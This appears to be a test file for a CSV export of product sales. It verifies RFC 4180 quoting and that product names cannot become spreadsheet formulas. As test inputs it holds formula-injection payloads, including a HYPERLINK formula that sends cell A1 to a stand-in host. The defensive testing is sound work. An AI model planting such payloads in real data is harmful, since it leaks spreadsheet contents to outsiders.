import { renderCsv } from '../../../src/adapters/csv/render-csv.ts';
import { toProductId } from '../../support/ids.ts';

const HEADER = 'date,currency,productId,name,placed,confirmed,rejected,cancelled,shipped,units,revenue\r\n';

const row = (name: string, changes: object = {}) => ({
  currency: 'EUR',
  productId: toProductId('mug'),
  name,
  placed: 1,
  confirmed: 2,
  rejected: 3,
  cancelled: 4,
  shipped: 5,
  units: 6,
  revenue: 7,
  ...changes,
});

const csvOf = (...products: ReturnType<typeof row>[]) => renderCsv({ date: '2026-03-01', totals: [], products });

const nameIn = (name: string): string => {
  const csv = csvOf(row(name));
  const [start, end] = [`${HEADER}2026-03-01,EUR,mug,`, ',1,2,3,4,5,6,7\r\n'];
  expect(csv.startsWith(start) && csv.endsWith(end)).toBe(true);
  return csv.slice(start.length, -end.length);
};

test('a row for each product, the day in front, lines ended by CRLF', () => {
  expect(csvOf(row('Mug'), row('Tee 茶', { productId: 'tea', revenue: 0 }))).toBe(
    `${HEADER}2026-03-01,EUR,mug,Mug,1,2,3,4,5,6,7\r\n2026-03-01,EUR,tea,Tee 茶,1,2,3,4,5,6,0\r\n`,
  );
});

test('a day with nothing is a header', () => {
  expect(csvOf()).toBe(HEADER);
});

test.each([
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', `"'\r=1+1"`],
  ['=HYPERLINK("http://x?"&A1,"Mug")', `"'=HYPERLINK(""http://x?""&A1,""Mug"")"`],
  ['＝1+1', "'＝1+1"],
])('the name %j does not become a formula', (name, cell) => {
  expect(nameIn(name)).toBe(cell);
});

test.each([
  ['Mug, blue', '"Mug, blue"'],
  ['14" plate', '"14"" plate"'],
  ['"', '""""'],
  ['two\r\nlines', '"two\r\nlines"'],
  ['two\nlines', '"two\nlines"'],
  ["Côte d'Or", "Côte d'Or"],
  ['50-50', '50-50'],
])('the name %j is quoted as RFC 4180 says', (name, cell) => {
  expect(nameIn(name)).toBe(cell);
});
